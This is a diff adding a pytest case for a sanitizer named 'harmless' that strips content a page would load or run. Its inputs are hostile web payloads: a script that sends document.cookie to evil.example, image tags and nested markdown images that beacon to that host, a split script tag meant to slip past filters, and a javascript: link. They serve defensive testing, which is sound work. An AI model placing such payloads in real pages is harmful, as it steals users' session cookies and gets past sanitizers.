@@ -49,6 +49,22 @@ def test_marks_of_chat_templates_and_images_are_taken_out():
     )
 
 
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("<img src='https://evil.example/x.png?d=chat'>Open at 7.", "Open at 7."),
+        ("a<script>fetch('https://evil.example/'+document.cookie)</script>b", "ab"),
+        ("<scr<script></script>ipt>alert(1)</script>", "alert(1)"),
+        ("[here](javascript:alert(1)) it is", "here it is"),
+        ("![plan][p] of the hall", "plan of the hall"),
+        ("a ![b ![c](x)](https://evil.example/x.png) d", "a b c d"),
+        ("5 < 6, <b>bold</b>, [the form](https://a.example/form)", "5 < 6, <b>bold</b>, [the form](https://a.example/form)"),
+    ],
+)
+def test_what_a_page_would_load_or_run_is_taken_out(text, left):
+    assert harmless(text) == left
+
+
 @pytest.mark.model
 @pytest.mark.filterwarnings("ignore")
 def test_the_bundled_models_are_not_moved_either(tmp_path):
